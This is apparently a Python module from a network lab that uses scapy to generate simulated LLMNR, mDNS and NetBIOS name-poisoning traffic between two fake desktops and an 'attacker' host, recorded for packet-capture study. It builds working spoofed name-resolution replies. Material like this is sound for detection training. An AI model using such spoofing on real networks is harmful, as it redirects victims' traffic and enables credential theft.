"""Somebody answers for names that nobody has: by LLMNR, NetBIOS and mDNS, as a script. People mistype, and browsers ask
for made-up names.

Run it as ``python -m pcaps.lab.attacks.poisoning``.
"""

from __future__ import annotations

import ipaddress
import struct
from collections.abc import Iterator
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, UDP
from scapy.packet import Raw

from pcaps._craft import BROADCAST, Machine, Tape
from pcaps._office_hosts import ROUTER
from pcaps.lab._lab import Lab, record

ATTACKER = Machine("attacker", "88:b1:11:35:69:80", "10.20.10.66")
NAMES = ("fileserv", "wpadd", "qjzkfhwplo", "prnt-2f", "xkvbtyrmaw", "intranett", "nzoqdlhsei")
LLMNR, MDNS = "224.0.0.252", "224.0.0.251"


def _netbios(name: str) -> bytes:
    """A name as NetBIOS writes it (RFC 1001, 14.1)."""
    raw = name.upper()[:15].ljust(15).encode() + b"\0"
    return b"\x20" + b"".join(bytes((65 + (byte >> 4), 65 + (byte & 15))) for byte in raw) + b"\0"


def _ask(tape: Tape, at: float, victim: Machine, name: str) -> None:
    """By LLMNR (RFC 4795), mDNS and NetBIOS, as Windows does; and what the poisoner answers to each."""
    number, port = victim.rng.getrandbits(16), victim.next_port()
    question = DNSQR(qname=name, qtype="A")
    tape.group(at, victim, LLMNR, 5355, DNS(id=number, rd=0, qd=[question], an=[], ns=[], ar=[]), ttl=1, sport=port)
    answer = DNSRR(rrname=name, type="A", ttl=30, rdata=ATTACKER.ip)
    tape.udp(
        at + 0.004, ATTACKER, victim, 5355, port, DNS(id=number, qr=1, rd=0, qd=[question], an=[answer], ns=[], ar=[])
    )
    local = DNSQR(qname=f"{name}.local", qtype="A")
    tape.group(at + 0.05, victim, MDNS, 5353, DNS(id=0, rd=0, qd=[local], an=[], ns=[], ar=[]))
    tape.group(
        at + 0.054,
        ATTACKER,
        MDNS,
        5353,
        DNS(
            id=0,
            qr=1,
            aa=1,
            rd=0,
            qd=[],
            an=[DNSRR(rrname=f"{name}.local", type="A", ttl=120, rdata=ATTACKER.ip)],
            ns=[],
            ar=[],
        ),
    )
    asked, ip = _netbios(name), ipaddress.ip_address(ATTACKER.ip).packed
    query = struct.pack("!HHHHHH", number, 0x0110, 1, 0, 0, 0) + asked + struct.pack("!HH", 0x20, 1)
    head = IP(src=victim.ip, dst="10.20.10.255", ttl=128, id=victim.next_ident())
    tape.put(at + 0.1, tape.link(victim, BROADCAST, 0) / head / UDP(sport=137, dport=137) / Raw(query))
    told = struct.pack("!HHHHHH", number, 0x8500, 0, 1, 0, 0) + asked + struct.pack("!HHIHH", 0x20, 1, 165, 6, 0) + ip
    tape.udp(at + 0.103, ATTACKER, victim, 137, 137, told)


def names(lab: Lab) -> Iterator[None]:
    """Two people ask; the poisoner has a word for each of their names."""
    people = [Machine(f"desk-{last}", f"a4:bb:6d:00:10:{last:02x}", f"10.20.10.{last}", ttl=128) for last in (21, 22)]
    hosts = [lab.host(one.name, one.ip, one.mac) for one in (*people, ATTACKER)]
    yield
    tape = Tape(0, ROUTER.mac)
    for number, name in enumerate(NAMES):
        _ask(tape, number * 1.0, people[number % 2], name)
    lab.play(tape, *hosts)


if __name__ == "__main__":
    record(Path(__file__).parent, poisoned_names=names)
